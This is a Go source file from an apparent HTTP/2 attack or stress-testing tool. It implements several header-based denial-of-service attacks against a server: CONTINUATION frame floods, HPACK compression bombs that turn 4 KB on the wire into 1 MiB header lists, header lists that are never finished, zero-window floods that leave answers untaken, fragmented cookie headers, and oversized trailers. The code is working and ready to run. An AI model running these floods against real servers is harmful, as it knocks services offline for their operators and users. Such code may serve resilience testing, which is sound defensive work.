package attack

import (
	"bytes"
	"context"
	"errors"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// headerLimit is how large the header list of a request may be, as the server counts it, with some room for what every request has.
const headerLimit = 1<<20 - 1<<10

// headerAttacks are about the fields of requests.
func headerAttacks() []Attack {
	version := fieldBlock("GET", "/version")
	bomb := repeated("x-bomb", strings.Repeat("b", 4000), headerLimit)
	large, unsent := largeFields("GET"), largeFields("POST", "content-length", "60000")
	return []Attack{
		{Name: "cookie header in 26,000 pieces of one byte", Unit: "requests", Connections: 4, Planned: 100,
			script: flood(h2options{}, nil, ask(repeated("cookie", "a", headerLimit)))},
		{Name: "header lists of 1 MiB, answers not taken", Unit: "requests", Connections: 1, Planned: streamLimit, Window: longWindow,
			script: flood(h2options{settings: []http2.Setting{zeroWindow()}}, nil, ask(large))},
		{Name: "header lists of 1 MiB, body never sent", Unit: "requests", Connections: 1, Planned: streamLimit, Window: longWindow,
			script: flood(h2options{}, nil, func(c *h2conn, _ int) error {
				_, err := c.headers(unsent, false)
				return err
			})},
		{Name: "header lists of 1 MiB without END_HEADERS", Unit: "lists", Connections: 200, Planned: 200, Window: longWindow, Silent: true,
			script: func(ctx context.Context, a *attacker) error { return unendedHeaders(ctx, a, large) }},
		{Name: "CONTINUATION flood, empty frames", Unit: "frames", Connections: 4, Planned: 80_000, script: continuationFlood(nil)},
		{Name: "CONTINUATION flood, one field a frame", Unit: "frames", Connections: 4, Planned: 80_000,
			script: continuationFlood(literal("x-a", "1"))},
		{Name: "HPACK bomb: lists of 1 MiB in 4 KB", Unit: "requests", Connections: 4, Planned: 2_000,
			script: flood(h2options{}, nil, ask(bomb))},
		{Name: "HPACK bomb, answers not taken", Unit: "requests", Connections: 4, Planned: 1_000,
			script: flood(h2options{settings: []http2.Setting{zeroWindow()}}, nil, ask(bomb))},
		{Name: "trailers of 60 KB", Unit: "requests", Connections: 4, Planned: 1_000,
			script: flood(h2options{}, nil, func(c *h2conn, _ int) error { return withTrailer(c, version) })},
	}
}

// literal is a field that leaves the table of the connection alone.
func literal(name, value string) []byte {
	var block bytes.Buffer
	_ = hpack.NewEncoder(&block).WriteField(hpack.HeaderField{Name: name, Value: value, Sensitive: true}) // into memory
	return block.Bytes()
}

// repeated is a request with so many fields of one name and value that its header list has the given size. On the wire the second and all
// others are one byte.
func repeated(name, value string, size int) []byte {
	block := bytes.NewBuffer(fieldBlock("GET", "/version"))
	_ = hpack.NewEncoder(block).WriteField(hpack.HeaderField{Name: name, Value: value}) // into memory
	const newestEntry = 0x80 | 62                                                       // the first index after the static table
	block.Write(bytes.Repeat([]byte{newestEntry}, size/(len(name)+len(value)+32)-1))
	return block.Bytes()
}

// largeFields is a request whose header list is as large as a server takes, every byte of it sent.
func largeFields(method string, more ...string) []byte {
	const size = 60_000
	for n := range headerLimit / (size + 64) {
		more = append(more, "x-large-"+string(rune('a'+n)), strings.Repeat("v", size))
	}
	return fieldBlock(method, "/version", more...)
}

// unendedHeaders sends all of a header list but its end.
func unendedHeaders(ctx context.Context, a *attacker, block []byte) error {
	c, err := a.dialHTTP2(ctx, h2options{})
	if err != nil {
		return err
	}
	const size = 16 << 10
	err = c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block[:size], EndStream: true})
	for rest := block[size:]; len(rest) > size && err == nil; rest = rest[size:] {
		err = c.WriteContinuation(1, false, rest[:size])
	}
	if err = errors.Join(err, c.flush()); err != nil {
		return err
	}
	a.tally.sent.Add(1)
	return nil
}

// continuationFlood begins a request and adds frames to its fields without an end.
func continuationFlood(piece []byte) func(context.Context, *attacker) error {
	begin := func(c *h2conn) error {
		return c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream(), BlockFragment: fieldBlock("GET", "/version"), EndStream: true})
	}
	return flood(h2options{}, begin, func(c *h2conn, _ int) error { return c.WriteContinuation(1, false, piece) })
}

// withTrailer sends a request whose body is followed by a large trailer.
func withTrailer(c *h2conn, block []byte) error {
	id, err := c.headers(block, false)
	if err != nil {
		return err
	}
	if err := c.reserve(1); err != nil {
		return err
	}
	const size = 15 << 10
	trailer := literal("x-trailer", strings.Repeat("t", 60_000))
	err = errors.Join(c.WriteData(id, false, []byte{'x'}),
		c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: trailer[:size], EndStream: true}))
	for rest := trailer[size:]; err == nil && len(rest) > 0; {
		piece := rest[:min(size, len(rest))]
		rest = rest[len(piece):]
		err = c.WriteContinuation(id, len(rest) == 0, piece)
	}
	return err
}
